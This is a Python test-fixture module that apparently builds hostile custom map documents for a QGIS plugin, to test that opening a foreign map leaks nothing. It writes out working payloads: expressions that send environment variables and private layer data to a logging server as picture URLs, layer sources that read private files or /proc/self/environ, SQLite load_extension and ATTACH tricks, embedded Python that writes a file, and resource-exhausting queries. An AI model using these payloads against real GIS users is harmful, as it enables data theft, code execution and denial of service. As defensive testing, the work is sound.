"""Custom maps that somebody else wrote to learn or to send something, in every container that a map can come in.

``ROWS`` has each by what is opened. A row is built on a ``Ground``: the folder of what is opened, a private folder that
nothing may read, a server that notes every request, and a port that notes every connection.
"""

from __future__ import annotations

import hashlib
import html
import json
import os
import re
import sqlite3
import struct
import zipfile
import zlib
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable, Iterator, Mapping, NamedTuple
from urllib.parse import quote

from osgeo import gdal, ogr, osr
from qgis.core import (
    QgsField,
    QgsGeometryGeneratorSymbolLayer,
    QgsMarkerSymbol,
    QgsPalLayerSettings,
    QgsProperty,
    QgsRasterMarkerSymbolLayer,
    QgsRuleBasedRenderer,
    QgsSingleSymbolRenderer,
    QgsSvgMarkerSymbolLayer,
    QgsSymbol,
    QgsSymbolLayer,
    QgsTextBackgroundSettings,
    QgsTextFormat,
    QgsVectorLayer,
    QgsVectorLayerSimpleLabeling,
)
from qgis.PyQt.QtCore import QVariant
from qgis.PyQt.QtGui import QColor

from plugin.core.box import Box
from plugin.core.publication.embedded_documents import DOCUMENT_NAME, TIFF_DOMAIN
from plugin.core.publication.image_metadata import png_with_metadata
from plugin.core.publication.map_statement import MapStatement
from plugin.core.publication.pdf_description import Attachment
from plugin.core.resources import RESOURCES
from plugin.core.snapshot.manifest import (
    DOCUMENT,
    MANIFEST,
    FileRole,
    RasterFormat,
    SnapshotFile,
    SnapshotLayer,
    SnapshotManifest,
    SnapshotState,
    sha256_of_file,
    write_manifest,
)
from plugin.gis.own_layers.references import style_of
from tests.tools import network_faults

#: words that stand nowhere else: of the private file, an environment variable, a variable of the person's, the private
#: layer of the open project, and a login
FILE, ENVIRONMENT, VARIABLE, LAYER = "gavilan7f3ax", "lirio8c1dx", "tejon5b2ex", "corzo4d9fx"
USER, PASSWORD = "abubilla3c7ax", "avutarda1e8bx"
ENVIRONMENT_NAME, VARIABLE_NAME, LAYER_NAME = "CARTOGUIDE_CANARY", "cartoguide_canary", "Parcelas privadas"
#: the id of the configuration with the login
AUTHCFG = "canary1"
#: a colour of letters and symbols that only a leak draws
LEAK_COLOUR = "#ff00ff"
#: where the points lie, and what the page shows
PLACE, EXTENT = (-3.51, 38.38), {"west": -3.56, "south": 38.34, "east": -3.46, "north": 38.42}
SERVICE = "http://mapas.invalid/wms?"
#: a bundled record and its service, which a map of somebody else has nothing to say about
BUNDLED = RESOURCES / "records" / "park-guide.xml"
BUNDLED_SERVICE = "https://www.juntadeandalucia.es/medioambiente/mapwms/REDIAM_mapa_guia_pn_despenaperros_2014?"


@dataclass(frozen=True)
class Ground:
    """Where a hostile thing lies, and what it aims at."""

    folder: Path
    private: Path
    #: addresses of the server that notes requests and of the one that the login is for, and a port of this machine
    server: str
    login_server: str
    port: int


class Row(NamedTuple):
    """Something to open.

    ``build(ground)`` writes it and returns its path. With ``asks`` the person's consent lets it request its server, and
    with ``both`` the one that the login is for. ``served`` is put on the server, for a ground, by path.
    """

    build: Callable[[Ground], Path]
    asks: bool = False
    both: bool = False
    served: Callable[[Ground], Mapping[str, bytes]] = lambda _ground: {}


# -- the private things


def lay_out(ground: Ground) -> None:
    """Write the private files: the same words as a table, a GeoJSON file, a GeoPackage, a raster and pictures."""
    private = ground.private
    (private / "canary.csv").write_text(f"word,x,y\n{FILE},{PLACE[0]},{PLACE[1]}\n", "utf-8")
    _points(private / "canary.geojson", word=FILE)
    _geopackage(private / "canary.gpkg", FILE)
    _raster(private / "canary.tif")
    (private / "canary.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" '
                                        f'height="9" fill="{LEAK_COLOUR}"/></svg>', "utf-8")
    (private / "canary.png").write_bytes(_png())


def service_file(port: int) -> str:
    """The text of a service file of PostgreSQL with a login."""
    return f"[canary]\nhost=127.0.0.1\nport={port}\nuser={USER}\npassword={PASSWORD}\ndbname=canary\n"


def private_files(ground: Ground) -> dict[str, bytes]:
    """Return what the private folder has."""
    return {path.name: path.read_bytes() for path in sorted(ground.private.iterdir()) if path.is_file()}


def _points(path: Path, **properties: object) -> Path:
    feature = {"type": "Feature", "properties": {"word": "nada", **properties},
               "geometry": {"type": "Point", "coordinates": PLACE}}
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}), "utf-8")
    return path


def _geopackage(path: Path, word: str = "nada") -> Path:
    data = ogr.GetDriverByName("GPKG").CreateDataSource(str(path))
    system = osr.SpatialReference()
    system.ImportFromEPSG(4326)
    layer = data.CreateLayer("t", system, ogr.wkbPoint)
    layer.CreateField(ogr.FieldDefn("word", ogr.OFTString))
    feature = ogr.Feature(layer.GetLayerDefn())
    feature.SetField("word", word)
    feature.SetGeometry(ogr.CreateGeometryFromWkt(f"POINT ({PLACE[0]} {PLACE[1]})"))
    layer.CreateFeature(feature)
    del feature, layer, data
    return path


def _raster(path: Path, driver: str = "GTiff", overview: str = "", options: tuple[str, ...] = ()) -> Path:
    """A raster at the place. ``overview`` is the file that it names for its overviews."""
    data = gdal.GetDriverByName(driver).Create(str(path), 512, 512, 3 if driver == "GTiff" else 4, gdal.GDT_Byte,
                                               options=list(options))
    data.SetGeoTransform((EXTENT["west"], 0.0002, 0, EXTENT["north"], 0, -0.0002))
    system = osr.SpatialReference()
    system.ImportFromEPSG(4326)
    data.SetProjection(system.ExportToWkt())
    for number in range(data.RasterCount):
        data.GetRasterBand(number + 1).Fill(200)
    if overview:
        data.SetMetadataItem("OVERVIEW_FILE", overview, "OVERVIEWS")
    del data
    return path


# -- styles


def _style(change: Callable[[QgsVectorLayer], None]) -> str:
    layer = QgsVectorLayer("Point?crs=EPSG:4326&field=word:string", "a", "memory")
    change(layer)
    return style_of(layer)


def _symbol_style(symbol: QgsSymbol) -> str:
    return _style(lambda layer: layer.setRenderer(QgsSingleSymbolRenderer(symbol)))


def _marker(layer: QgsSymbolLayer) -> QgsMarkerSymbol:
    symbol = QgsMarkerSymbol.createSimple({})
    symbol.changeSymbolLayer(0, layer)
    return symbol


def svg_style(expression: str) -> str:
    """A marker whose picture lies where ``expression`` says."""
    marker = QgsSvgMarkerSymbolLayer("")
    marker.setSize(12)
    marker.setDataDefinedProperty(QgsSymbolLayer.Property.PropertyName, QgsProperty.fromExpression(expression))
    return _symbol_style(_marker(marker))


#: stands for a picture's path until the style is written: QGIS fetches a picture of the web as soon as it is named
_NO_PICTURE = "/nowhere/picture"


def _with_picture(style: str, path: str) -> str:
    assert _NO_PICTURE in style
    return style.replace(_NO_PICTURE, html.escape(path))


def picture_style(path: str) -> str:
    """A marker with the picture at ``path``."""
    return _with_picture(_symbol_style(_marker(QgsSvgMarkerSymbolLayer(_NO_PICTURE, 12))), path)


def raster_style(path: str) -> str:
    """A marker with the raster picture at ``path``."""
    return _with_picture(_symbol_style(_marker(QgsRasterMarkerSymbolLayer(_NO_PICTURE, 12))), path)


def colour_style(condition: str) -> str:
    """A large square in the colour of a leak where ``condition`` is true."""
    symbol = QgsMarkerSymbol.createSimple({"name": "square", "size": "30", "color": "#00a000", "outline_style": "no"})
    symbol.symbolLayer(0).setDataDefinedProperty(QgsSymbolLayer.Property.PropertyFillColor, QgsProperty.fromExpression(
        f"if({condition}, '{LEAK_COLOUR}', '#00a000')"))
    return _symbol_style(symbol)


def rule_style(condition: str) -> str:
    """A square in the colour of a leak by a rule with ``condition``."""
    def change(layer: QgsVectorLayer) -> None:
        root = QgsRuleBasedRenderer.Rule(None)
        symbol = QgsMarkerSymbol.createSimple({"name": "square", "size": "30", "color": LEAK_COLOUR})
        root.appendChild(QgsRuleBasedRenderer.Rule(symbol, 0, 0, condition))
        layer.setRenderer(QgsRuleBasedRenderer(root))
    return _style(change)


def _labelled(expression: str, background: str = "") -> Callable[[QgsVectorLayer], None]:
    def change(layer: QgsVectorLayer) -> None:
        settings = QgsPalLayerSettings()
        settings.fieldName, settings.isExpression, settings.enabled = expression, True, True
        text = QgsTextFormat()
        text.setSize(20)
        if background:
            behind = QgsTextBackgroundSettings()
            behind.setEnabled(True)
            behind.setType(QgsTextBackgroundSettings.ShapeType.ShapeSVG)
            behind.setSvgFile(_NO_PICTURE)
            text.setBackground(behind)
        settings.setFormat(text)
        layer.setLabeling(QgsVectorLayerSimpleLabeling(settings))
        layer.setLabelsEnabled(True)
    return change


def label_style(expression: str, background: str = "") -> str:
    """Labels with the text of ``expression``, before a picture."""
    style = _style(_labelled(expression, background))
    return _with_picture(style, background) if background else style


def field_style(expression: str) -> str:
    """A virtual field with ``expression``, shown as a label."""
    def change(layer: QgsVectorLayer) -> None:
        layer.addExpressionField(expression, QgsField("leak", QVariant.String))
        _labelled('"leak"')(layer)
    return _style(change)


def generator_style(expression: str) -> str:
    """A fill whose shape is what ``expression`` gives."""
    generator = QgsGeometryGeneratorSymbolLayer.create({"geometryModifier": expression, "SymbolType": "Fill"})
    generator.subSymbol().setColor(QColor(LEAK_COLOUR))
    return _symbol_style(_marker(generator))


def python_style(ground: Ground) -> str:
    """A form and an action whose Python writes a file."""
    program = html.escape(f"def a(*b):\n    pass\nopen({str(ground.private / 'executed')!r}, 'w').write('x')\n")
    more = (f'<editform tolerant="1"></editform><editforminit>a</editforminit><editforminitcodesource>2'
            f"</editforminitcodesource><editforminitcode>{program}</editforminitcode><attributeactions>"
            f'<defaultAction key="Canvas" value="{{0}}"/><actionsetting type="1" name="a" action="{program}" '
            'id="{7d2c0b3a-6f3b-4d55-9e3b-3f1e0d1b2a10}" shortTitle="a" capture="0" isEnabledOnlyWhenEditable="0">'
            '<actionScope id="Canvas"/></actionsetting></attributeactions>')
    return label_style("'a'").replace("</qgis>", f"{more}</qgis>")


def tip_style(ground: Ground) -> str:
    """A map tip that loads a picture and names a variable."""
    tip = html.escape(f"<img src='{ground.server}/tip.png?[% env('{ENVIRONMENT_NAME}') %]'>")
    return label_style("'a'").replace("</qgis>", f"<mapTip>{tip}</mapTip></qgis>")


#: what a hostile expression can find out. Each gives a text with a word
SECRETS: Mapping[str, str] = {
    "environment variable": f"env('{ENVIRONMENT_NAME}')",
    "variable of the person's": f"@{VARIABLE_NAME}",
    "environment variable by eval": f"eval('en' || 'v(''{ENVIRONMENT_NAME}'')')",
    "variable by its name": f"var('{VARIABLE_NAME}')",
    "layer of the project by aggregate": f"aggregate('{LAYER_NAME}', 'concatenate', \"secreto\")",
    "layer of the project by get_feature": f"attribute(get_feature_by_id('{LAYER_NAME}', 1), 'secreto')",
    "layer of the project by overlay": f"array_to_string(overlay_nearest('{LAYER_NAME}', \"secreto\"))",
}
#: takes hours, and no memory
ENDLESS = ("array_length(array_foreach(generate_series(1, 200000), array_length(array_foreach("
           "generate_series(1, 200000), sin(@element)))))")


# -- own layers


def is_word(expression: str, word: str) -> str:
    """A condition that ``expression`` gives a word, which does not stand in it."""
    return f"md5({expression}) = '{hashlib.md5(word.encode(), usedforsecurity=False).hexdigest()}'"


def own(source: str, provider: str = "ogr", layer_type: str = "vector", style: str = "",
        **more: object) -> dict[str, Any]:
    """The document's member for one own layer."""
    return {"id": "ajena", "name": "Capa ajena", "type": layer_type, "provider": provider, "source": source,
            "style": style, "opacity": 1, "visible": True, "credit": "", "entries_below": 0, **more}


def points_with(ground: Ground, style: str) -> dict[str, Any]:
    """Points beside the document with a style."""
    _points(ground.folder / "puntos.geojson")
    return own("puntos.geojson", style=style)


def delimited(path: str) -> str:
    """The source of QGIS's delimited text over a file with columns ``word``, ``x`` and ``y``."""
    return f"file://{quote(path)}?type=csv&xField=x&yField=y&crs=EPSG:4326&spatialIndex=no&subsetIndex=no"


def virtual_over(ground: Ground) -> str:
    """The source of a virtual layer over the private table."""
    inner = quote(delimited(str(ground.private / "canary.csv")), safe="")
    query = quote("select word, make_point(x, y, 4326) as geometry from t", safe="")
    return f"?layer=delimitedtext:{inner}:t:UTF-8&query={query}&geometry=geometry:1:4326"


def svg_leak(ground: Ground, word: str = '"word"') -> str:
    """The style that sends a word to the server as the address of a picture."""
    return svg_style(f"'{ground.server}/' || {word} || '.svg'")


def connection(ground: Ground, provider: str, authcfg: str = AUTHCFG) -> dict[str, Any]:
    """An own layer of a service on the server, with a login by its id."""
    login = f"&authcfg={authcfg}" if authcfg else ""
    quoted = f" authcfg='{authcfg}'" if authcfg else ""
    sources = {
        "xyz": (f"type=xyz&url={quote(ground.server + '/xyz/{z}/{x}/{y}.png', safe=':/')}&zmin=0&zmax=19{login}", "wms",
                "raster"),
        "wms": (f"url={ground.server}/wms?&layers=rios&styles=&format=image/png&crs=EPSG:4326{login}", "wms", "raster"),
        "wfs": (f"url='{ground.server}/wfs' typename='a:rios' version='2.0.0' srsname='EPSG:4326'{quoted}", "WFS",
                "vector"),
        "oapif": (f"url='{ground.server}/oapif' typename='rios'{quoted}", "OAPIF", "vector"),
        "feature server": (f"crs='EPSG:4326' url='{ground.server}/arcgis/FeatureServer/0'{quoted}",
                           "arcgisfeatureserver", "vector"),
        "map server": (f"crs='EPSG:4326' format='PNG32' layer='0' url='{ground.server}/arcgis/MapServer'{quoted}",
                       "arcgismapserver", "raster"),
        "wcs": (f"url={ground.server}/wcs&identifier=rios&crs=EPSG:4326&format=GeoTIFF{login}", "wcs", "raster"),
        "vector tiles": (f"type=xyz&url={quote(ground.server + '/mvt/{z}/{x}/{y}.pbf', safe=':/')}&zmin=0&zmax=14"
                         f"{login}", "vectortile", "vector-tile"),
        "postgres": (f"dbname='canary' host=127.0.0.1 port={ground.port} sslmode=disable key='id' table=\"t\" (geom)"
                     f"{quoted}", "postgres", "vector"),
    }
    source, known, layer_type = sources[provider]
    return own(source, known, layer_type)


# -- documents and their containers


def document(*own_layers: Mapping[str, Any], **members: Any) -> bytes:
    """A custom map with own layers alone, as somebody's program writes it."""
    layers = [{**layer, "id": f"{layer['id']}{number}"} for number, layer in enumerate(own_layers)]
    return json.dumps({"format": "cartoguide-custommap", "version": 1, "title": "Mapa ajeno", "language": "es",
                       "base": None, "overlays": [], "crs": "EPSG:25830", "extent": EXTENT, "centre": None,
                       "scale": None, "page": {"paper": "A4", "orientation": "landscape", "template": "guide"},
                       "own_layers": layers, **members}).encode()


def _png() -> bytes:
    rows = b"".join(b"\x00" + b"\xff\x00\xff" * 16 for _row in range(16))

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def in_json(ground: Ground, data: bytes) -> Path:
    """Write the document as a file."""
    path = ground.folder / "map.custommap.json"
    path.write_bytes(data)
    return path


def in_png(ground: Ground, data: bytes) -> Path:
    """Write the document inside a picture, as an international text."""
    path = ground.folder / "map.png"
    path.write_bytes(png_with_metadata(_png(), MapStatement("Mapa ajeno", "es", "", ""), [
        Attachment(DOCUMENT_NAME, "application/json", data, "")]))
    return path


def in_pdf(ground: Ground, data: bytes) -> Path:
    """Write the document inside a PDF, as an attachment."""
    path = ground.folder / "map.pdf"
    packed = zlib.compress(data)
    path.write_bytes(b"%%PDF-1.6\n1 0 obj\n<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n"
                     b"%s\nendstream\nendobj\ntrailer << >>\n%%%%EOF\n" % (len(packed), packed))
    return path


def in_tiff(ground: Ground, data: bytes) -> Path:
    """Write the document inside a GeoTIFF, as GDAL's metadata."""
    path = _raster(ground.folder / "map.tif")
    image = gdal.Open(str(path), gdal.GA_Update)
    image.SetMetadataItem(DOCUMENT_NAME, data.decode(), TIFF_DOMAIN)
    del image
    return path


def in_folder(ground: Ground, data: bytes, files: Mapping[str, tuple[FileRole, str]] | None = None,
              layers: tuple[SnapshotLayer, ...] = (), kind: RasterFormat = RasterFormat.COG,
              made: str = "2026-11-22T10:00:00+00:00") -> Path:
    """Write the document into a snapshot's folder, and open that."""
    folder = ground.folder
    members = {**json.loads(data), "snapshot": {"path": ".", "in_use": True}}
    (folder / DOCUMENT).write_bytes(json.dumps(members).encode())
    known = {DOCUMENT: (FileRole.DOCUMENT, ""), **(files or {})}
    listed = tuple(SnapshotFile(name, role, "application/octet-stream", (folder / name).stat().st_size,
                                sha256_of_file(folder / name), about) for name, (role, about) in known.items())
    (folder / MANIFEST).write_bytes(write_manifest(SnapshotManifest(
        "Mapa ajeno", SnapshotState.COMPLETE, made, "EPSG:4326", Box(**EXTENT),
        Box(**EXTENT), 96, (25000.0,), kind, layers, listed)))
    return folder / DOCUMENT


def in_package(ground: Ground, data: bytes) -> Path:
    """Write the document into a package for an offline computer."""
    names = [path.name for path in ground.folder.iterdir()]
    in_folder(ground, data, dict.fromkeys(names, (FileRole.RASTER, "")))
    package = ground.folder / "mapa.cartoguide.zip"
    with zipfile.ZipFile(package, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in (MANIFEST, DOCUMENT, *names):
            archive.write(ground.folder / name, name)
            (ground.folder / name).unlink()
    return package


CONTAINERS: Mapping[str, Callable[[Ground, bytes], Path]] = {
    "JSON": in_json, "PNG": in_png, "PDF": in_pdf, "TIFF": in_tiff, "zip": in_package, "folder": in_folder}


# -- the rows


def rows() -> dict[str, Row]:
    """Every hostile thing by its name."""
    return {**dict(_containers()), **dict(files()), **dict(addresses()), **dict(_led_elsewhere()), **dict(logins()),
            **dict(styles()), **dict(other_members()), **dict(_slow())}


def _of(make: Callable[[Ground], Mapping[str, Any]], asks: bool = False) -> Row:
    return Row(lambda ground: in_json(ground, document(make(ground))), asks)


def _source(make: Callable[[Ground], str], provider: str = "ogr", layer_type: str = "vector") -> Row:
    return _of(lambda ground: own(make(ground), provider, layer_type,
                                  svg_leak(ground) if layer_type == "vector" else ""))


def _containers() -> Iterator[tuple[str, Row]]:
    payloads: dict[str, Callable[[Ground], Mapping[str, Any]]] = {
        "virtual layer over a private file": lambda ground: own(virtual_over(ground), "virtual",
                                                                style=svg_leak(ground)),
        "style that sends a variable": lambda ground: points_with(
            ground, svg_leak(ground, SECRETS["environment variable"])),
    }
    for container, write in CONTAINERS.items():
        for name, make in payloads.items():
            yield f"{name}, in {container}", Row(
                lambda ground, write=write, make=make: write(ground, document(make(ground))))


def files() -> Iterator[tuple[str, Row]]:
    """Own layers that read a file elsewhere."""
    def private(name: str) -> Callable[[Ground], str]:
        return lambda ground: str(ground.private / name)

    yield "file elsewhere", _source(private("canary.geojson"))
    yield "file elsewhere by dots", _source(lambda ground: os.path.relpath(ground.private / "canary.geojson",
                                                                          ground.folder))
    yield "file elsewhere as a network share", _source(lambda ground: f"/{ground.private / 'canary.geojson'}")
    yield "file elsewhere as an address", _source(lambda ground: f"file://{ground.private / 'canary.geojson'}")
    yield "raster elsewhere", _source(private("canary.tif"), "gdal", "raster")
    yield "delimited text elsewhere", _source(lambda ground: delimited(str(ground.private / "canary.csv")),
                                             "delimitedtext")
    yield "delimited text of the process's environment", _of(lambda ground: own(
        "file:///proc/self/environ?type=csv&delimiter=%5Cn&useHeader=no&geomType=none&detectTypes=no", "delimitedtext",
        style=svg_leak(ground, "\"field_1\"")))
    yield "spatialite elsewhere", _source(
        lambda ground: f"dbname='{ground.private / 'canary.gpkg'}' table=\"t\" (geom)", "spatialite")
    yield "spatialite that loads a program", _source(
        lambda ground: f"dbname='{_geopackage(ground.folder / 'a.gpkg')}' table=\"(select load_extension("
                       f"'{ground.private / 'canary.png'}') as word)\"", "spatialite")
    yield "GeoPackage that attaches another", _source(
        lambda ground: f"{_geopackage(ground.folder / 'a.gpkg').name}|option:PRELUDE_STATEMENTS=ATTACH DATABASE "
                       f"'{ground.private / 'canary.gpkg'}' AS other|subset=SELECT * FROM other.t")
    yield "memory layer over a file", _source(
        lambda ground: f"Point?crs=EPSG:4326&field=word:string&file={ground.private / 'canary.geojson'}", "memory")
    yield "GPX elsewhere", _source(lambda ground: f"{ground.private / 'canary.geojson'}?type=waypoint", "gpx")
    yield "mesh elsewhere", _source(lambda ground: f'2DM:"{ground.private / "canary.geojson"}"', "mdal", "mesh")
    yield "point cloud elsewhere", _source(private("canary.geojson"), "ept", "point-cloud")
    yield "tiles elsewhere", _source(
        lambda ground: f"type=xyz&url=file://{ground.private}/canary.png?{{z}}{{x}}{{y}}&zmin=0&zmax=18", "wms",
        "raster")
    yield "MBTiles elsewhere", _source(lambda ground: f"type=mbtiles&url={ground.private / 'canary.gpkg'}", "wms",
                                      "raster")
    yield "vector tiles elsewhere", _source(lambda ground: f"type=mbtiles&url={ground.private / 'canary.gpkg'}",
                                           "vectortile", "vector-tile")
    yield "virtual raster elsewhere", _source(
        lambda ground: "?crs=EPSG:4326&extent=-3.56,38.34,-3.46,38.42&width=10&height=10&formula=%22a@1%22&a:uri="
                       f"{ground.private / 'canary.tif'}&a:provider=gdal", "virtualraster", "raster")

    def linked(ground: Ground) -> str:
        (ground.folder / "puntos.geojson").symlink_to(ground.private / "canary.geojson")
        return "puntos.geojson"

    yield "link beside the map to a file elsewhere", _source(linked)

    def vector_vrt(name: str) -> Callable[[Ground], str]:
        def write(ground: Ground) -> str:
            (ground.folder / name).write_text(_ogr_vrt(str(ground.private / "canary.csv")), "utf-8")
            return name
        return write

    def raster_vrt(name: str, target: str = "") -> Callable[[Ground], str]:
        def write(ground: Ground) -> str:
            (ground.folder / name).write_text(_gdal_vrt(target or str(ground.private / "canary.tif")), "utf-8")
            return name
        return write

    yield "VRT beside the map over a file elsewhere", _source(vector_vrt("datos.vrt"))
    yield "VRT with the name of a GeoPackage", _source(vector_vrt("datos.gpkg"))
    yield "raster VRT with the name of a GeoPackage", _source(raster_vrt("datos.gpkg"), "gdal", "raster")
    yield "raster VRT with the name of a TIFF", _source(raster_vrt("datos.tif"), "gdal", "raster")
    yield "VRT in the source", _source(lambda ground: _ogr_vrt(str(ground.private / "canary.csv")))
    yield "raster VRT in the source", _source(lambda ground: _gdal_vrt(str(ground.private / "canary.tif")), "gdal",
                                             "raster")
    yield "driver before a file elsewhere", _source(lambda ground: f"CSV:{ground.private / 'canary.csv'}")
    yield "GeoPackage's driver before a file elsewhere", _source(
        lambda ground: f"GPKG:{ground.private / 'canary.gpkg'}:t")
    yield "zip of a file elsewhere", _source(lambda ground: f"/vsisubfile/0_9999,{ground.private / 'canary.geojson'}")
    yield "inline document", _source(
        lambda ground: json.dumps({"type": "Feature", "properties": {"word": "x"},
                                   "geometry": {"type": "Point", "coordinates": PLACE}}))
    yield "program for receivers", _source(lambda ground: f"GPSBABEL:gpx:{ground.private / 'canary.csv'}")

    for name, device in (("device of zeros", "/dev/zero"), ("terminal", "/dev/ptmx")):
        yield name, _source(lambda ground, device=device: device)
        yield f"{name} as delimited text", _source(
            lambda ground, device=device: f"file://{device}?type=csv&geomType=none", "delimitedtext")

    def pipe(ground: Ground) -> str:
        os.mkfifo(ground.folder / "puntos.geojson")
        return "puntos.geojson"

    yield "pipe beside the map", _source(pipe)
    yield "pipe beside the map as a raster", _source(pipe, "gdal", "raster")

    def beside(write: Callable[[Ground], None]) -> Callable[[Ground], Mapping[str, Any]]:
        def make(ground: Ground) -> Mapping[str, Any]:
            write(ground)
            return own("puntos.geojson")
        return make

    def style_file(ground: Ground) -> None:
        _points(ground.folder / "puntos.geojson")
        (ground.folder / "puntos.qml").write_text(svg_leak(ground, SECRETS["environment variable"]), "utf-8")

    yield "style file beside the data", _of(beside(style_file))

    def style_inside(ground: Ground) -> Mapping[str, Any]:
        _geopackage(ground.folder / "a.gpkg")
        layer = QgsVectorLayer(f"{ground.folder / 'a.gpkg'}|layername=t", "t", "ogr")
        style = svg_leak(ground, SECRETS["environment variable"])
        layer.saveStyleToDatabase("a", "a", True, "")
        del layer
        data = ogr.Open(str(ground.folder / "a.gpkg"), 1)
        data.ExecuteSQL("UPDATE layer_styles SET styleQML = '" + style.replace("'", "''") + "', useAsDefault = 1")
        del data
        return own("a.gpkg|layername=t")

    yield "style inside the GeoPackage", _of(style_inside)

    def linked_crs(member: str, place: str = '"crs": ', tail: str = "") -> Callable[[Ground], Mapping[str, Any]]:
        def make(ground: Ground) -> Mapping[str, Any]:
            path = _points(ground.folder / "puntos.geojson")
            path.write_text(path.read_text("utf-8")[:-1] + ", " + place + member.replace("SERVER", ground.server)
                            + "}" + tail, "utf-8")
            return own("puntos.geojson")
        return make

    link = '{"type": "link", "properties": {"href": "SERVER/crs"}}'
    yield "GeoJSON whose CRS is on the web", _of(linked_crs(link))
    yield "GeoJSON whose CRS is on the web, with another name", _of(linked_crs(
        link.replace("link", "U\\u0052L").replace("href", "url"), '"\\u0043RS": '))

    def queried(query: str, rows: int = 1) -> Callable[[Ground], Mapping[str, Any]]:
        def make(ground: Ground) -> Mapping[str, Any]:
            with closing(sqlite3.connect(_geopackage(ground.folder / "a.gpkg"))) as data, data:
                data.execute("CREATE TABLE n (i INTEGER)")
                data.executemany("INSERT INTO n VALUES (?)", [(number,) for number in range(rows)])
                data.execute(f"CREATE VIEW w AS {query}")
                data.execute("INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES "
                             "('w', 'features', 'w', 4326)")
                data.execute("INSERT INTO gpkg_geometry_columns VALUES ('w', 'geom', 'POINT', 4326, 0, 0)")
            return own("a.gpkg|layername=w", style=label_style('"word"'))
        return make

    yield "GeoPackage with a query without end", _of(queried(
        "WITH c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x AS fid, (SELECT geom FROM t) AS geom, 'a' AS "
        "word FROM c WHERE x < 0"))
    yield "GeoPackage with a query over all rows of all rows", _of(queried(
        "SELECT t.fid, t.geom, t.word FROM t, n a, n b, n c, n d WHERE a.i + b.i + c.i + d.i < 0", 3000))
    yield "GeoPackage with a query of a giant", _of(queried(
        "SELECT fid, geom, hex(zeroblob(400000000)) AS word FROM t"))
    yield "GeoPackage with a query of its path", _of(queried(
        "SELECT fid, geom, (SELECT group_concat(file) FROM pragma_database_list) AS word FROM t"))

    def pattern(ground: Ground) -> Mapping[str, Any]:
        _points(ground.folder / "puntos.geojson", word="a" * 100_000)
        return own(f"puntos.geojson|subset=\"word\" LIKE '{'%a' * 60}%b'")

    yield "filter without end", _of(pattern)

    def giant(name: str, source: str, provider: str, layer_type: str) -> Callable[[Ground], Mapping[str, Any]]:
        def make(ground: Ground) -> Mapping[str, Any]:
            with (ground.folder / name).open("wb") as file:
                file.write(b'{"type": "Feature", "properties": {}, "geometry": null}\n')
                file.truncate(3_000_000_000)
            return own(source, provider, layer_type)
        return make

    yield "file of gigabytes", _of(giant("a.geojsonl", "a.geojsonl", "ogr", "vector"))


def _ogr_vrt(path: str) -> str:
    return (f'<OGRVRTDataSource><OGRVRTLayer name="canary"><SrcDataSource>{html.escape(path)}</SrcDataSource>'
            '<GeometryType>wkbPoint</GeometryType><LayerSRS>EPSG:4326</LayerSRS><GeometryField '
            'encoding="PointFromColumns" x="x" y="y"/></OGRVRTLayer></OGRVRTDataSource>')


def _gdal_vrt(path: str) -> str:
    return ('<VRTDataset rasterXSize="512" rasterYSize="512"><SRS>EPSG:4326</SRS><GeoTransform>-3.56,0.0002,0,38.42,0,'
            '-0.0002</GeoTransform><VRTRasterBand dataType="Byte" band="1"><SimpleSource><SourceFilename>'
            f'{html.escape(path)}</SourceFilename><SourceBand>1</SourceBand></SimpleSource></VRTRasterBand></VRTDataset>')


def addresses() -> Iterator[tuple[str, Row]]:
    """Own layers whose file name leads GDAL to a server, past QGIS's network."""
    vector = {
        "file on the web": "/vsicurl/{0}/a.geojson", "file on the web by parameters": "/vsicurl?url={0}/a.geojson",
        "file on the web as a stream": "/vsicurl_streaming/{0}/a.geojson",
        "zip on the web": "/vsizip//vsicurl/{0}/a.zip/a.geojson", "zip on the web in braces":
        "/vsizip/{{/vsicurl/{0}/a.zip}}/a.geojson", "gzip on the web": "/vsigzip//vsicurl/{0}/a.geojson.gz",
        "part of a file on the web": "/vsisubfile/0_99,/vsicurl/{0}/a.geojson", "WFS by GDAL": "WFS:{0}/wfs",
        "OGC API by GDAL": "OAPIF:{0}/oapif", "CSW by GDAL": "CSW:{0}/csw", "GeoJSON by GDAL": "GeoJSON:{0}/a.geojson",
        "ESRI JSON by GDAL": "ESRIJSON:{0}/a.json", "TopoJSON by GDAL": "TopoJSON:{0}/a.json",
        "vector tile by GDAL": "MVT:{0}/0/0/0.pbf", "Elasticsearch": "ES:{0}", "Carto by GDAL":
        "CARTO:a tables=t", "GML by GDAL": "GMLAS:/vsicurl/{0}/a.gml", "NextGIS": "NGW:{0}/resource/1",
        "PostgreSQL by GDAL": "PG:host=127.0.0.1 port={1} user=a dbname=a", "MySQL by GDAL":
        "MYSQL:a,host=127.0.0.1,port={1},user=a", "VRT in the source over the web":
        '<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>/vsicurl/{0}/a.csv</SrcDataSource></OGRVRTLayer>'
        "</OGRVRTDataSource>", "GeoPackage on the web by its driver": "GPKG:/vsicurl/{0}/a.gpkg:t",
        "SQLite on the web": "SQLITE:/vsicurl/{0}/a.sqlite",
    }
    for name, source in vector.items():
        yield name, _source(lambda ground, source=source: source.format(ground.server, ground.port))
    raster = {
        "raster on the web": "/vsicurl/{0}/a.tif", "satellite image on the web":
        "SENTINEL2_L1C:/vsizip//vsicurl/{0}/a.zip/a.xml:10m:EPSG_32630", "WMTS by GDAL": "WMTS:{0}/wmts?request="
        "GetCapabilities,layer=a", "WMS by GDAL": "WMS:{0}/wms?SERVICE=WMS&VERSION=1.1.1&REQUEST=GetMap&LAYERS=a&"
        "SRS=EPSG:4326&BBOX=-4,38,-3,39", "WMS by GDAL in XML": '<GDAL_WMS><Service name="TMS"><ServerUrl>{0}/${{z}}/'
